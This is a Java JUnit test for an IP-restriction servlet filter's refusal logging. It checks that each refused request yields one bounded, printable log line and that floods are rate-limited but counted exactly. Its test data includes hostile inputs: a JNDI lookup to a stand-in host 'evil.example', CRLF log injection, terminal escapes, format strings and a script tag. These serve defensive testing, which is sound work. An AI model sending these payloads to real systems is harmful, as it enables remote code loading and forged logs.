package org.iprestriction.servlet;

import static org.assertj.core.api.Assertions.assertThat;

import jakarta.servlet.DispatcherType;
import jakarta.servlet.http.HttpServletRequest;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.concurrent.atomic.AtomicLong;
import java.util.logging.Level;
import java.util.stream.Stream;
import org.iprestriction.LogLines;
import org.iprestriction.Vectors;
import org.iprestriction.address.IpAddress;
import org.iprestriction.caller.ClientAddressResolver;
import org.iprestriction.caller.StubRequest;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/** What refused requests leave in the log: a line each that nobody can forge, and few lines of a flood. */
class RefusalLogTest extends FilterHarness {

    private final AtomicLong nanos = new AtomicLong(5_000_000_000L);
    private final LogLines log = new LogLines(IpRestrictionFilter.class, ClientAddressResolver.class);

    @AfterEach
    void closeLog() {
        log.close();
    }

    private void givenFilterInVirtualTime(String... settings) throws Exception {
        filter = new IpRestrictionFilter(nanos::get, Counters::new);
        givenFilter(settings);
        log.clear();
    }

    /** Every header value of the table, and what people put into headers that end in a log. */
    static Stream<String> values() {
        return Stream.concat(Vectors.rows("forwarded.csv").map(row -> row.get(3)), Stream.of(
                "${jndi:ldap://evil.example/a}", "203.0.113.7\r\nINFO: Refused nobody", "\u001b[2J\u001b]0;owned\u0007", "%n%s%x{}",
                "{0}{1}", "\u2028\u2029\u0085\u202E\uFEFF", "<script>alert(1)</script>", "a".repeat(65_536), "\uD800", "\0"))
                .distinct();
    }

    /** The same text as header value, socket address, path and method: wherever a caller can write. */
    @ParameterizedTest
    @MethodSource("values")
    void oneRefusalIsOneLineOfPrintableAsciiOfBoundedLength(String value) throws Exception {
        givenFilterInVirtualTime("trusted-proxies", "10.0.0.1", "client-header", "X-Forwarded-For");
        String[] lines = value.split(" \\|\\| ", -1);
        for (String remote : new String[] {"10.0.0.1", "192.0.2.1", value}) {
            HttpServletRequest whole = StubRequest.from(remote).header("X-Forwarded-For", lines).build();
            HttpServletRequest request = stub(HttpServletRequest.class, (name, arguments) -> switch (name) {
                case "getMethod", "getRequestURI" -> value;
                case "getRemoteAddr" -> whole.getRemoteAddr();
                case "getAttribute" -> whole.getAttribute((String) arguments[0]);
                case "getHeader" -> whole.getHeader((String) arguments[0]);
                case "getHeaders" -> whole.getHeaders((String) arguments[0]);
                case "setAttribute" -> null;
                case "getDispatcherType" -> DispatcherType.REQUEST;
                default -> throw new UnsupportedOperationException(name);
            });
            assertThat(call(request)).isFalse();
        }
        assertThat(log.messages(Level.INFO)).hasSize(3);
        assertThat(log.messages()).allSatisfy(message -> assertThat(message).matches("[ -~]{1,900}")
                .doesNotContain("${"));
        assertThat(log.messages(Level.WARNING)).as("of the header of an untrusted peer").hasSize(1);
    }

    @Test
    void aFloodIsAFewLinesAndAnExactCount() throws Exception {
        List<Counters> counters = new ArrayList<>();
        filter = new IpRestrictionFilter(nanos::get, (settings, lists) -> {
            counters.add(new Counters(settings, lists));
            return counters.get(0);
        });
        givenFilter();
        log.clear();
        for (int i = 0; i < 10_000; i++) {
            assertThat(call("198.51.100.66")).isFalse();
        }
        assertThat(log.messages()).hasSize(10);
        assertThat(counters.get(0).getRequests()).containsEntry("NOT_LISTED", 10_000L).containsEntry("ALLOWED", 0L);
        nanos.addAndGet(1_000_000_000L);
        assertThat(call("198.51.100.66")).isFalse();
        assertThat(log.messages()).hasSize(11).last().asString().endsWith("; 9990 more were not logged");
        assertThat(counters.get(0).getRequests()).containsEntry("NOT_LISTED", 10_001L);
    }

    @Test
    void refusalsOfManyThreadsAreWrittenOrCountedAndNoneIsLost() throws Exception {
        RefusalLog refusals = new RefusalLog(nanos::get);
        IpAddress caller = IpAddress.parse("198.51.100.66");
        ExecutorService threads = Executors.newFixedThreadPool(8);
        List<Future<?>> floods = new ArrayList<>();
        for (int thread = 0; thread < 8; thread++) {
            floods.add(threads.submit(() -> {
                for (int i = 0; i < 1_250; i++) {
                    refusals.refused("GET", "/api", caller, "it is blocked", false, "id");
                }
            }));
        }
        for (Future<?> flood : floods) {
            flood.get();
        }
        threads.shutdown();
        assertThat(log.messages()).hasSize(10);
        nanos.addAndGet(1_000_000_000L);
        refusals.refused("GET", "/api", caller, "it is blocked", false, "id");
        long told = log.messages().stream().filter(line -> line.endsWith(" more were not logged"))
                .mapToLong(line -> Long.parseLong(line.replaceFirst(".*; ([0-9]+) more were not logged$", "$1"))).sum();
        assertThat(log.messages().size() + told).isEqualTo(10_001);
    }

    @Test
    void anAllowedRequestLeavesNoLine() throws Exception {
        givenFilterInVirtualTime("allow", "10.0.0.1");
        assertThat(call("10.0.0.1")).isTrue();
        assertThat(log.messages()).isEmpty();
    }
}
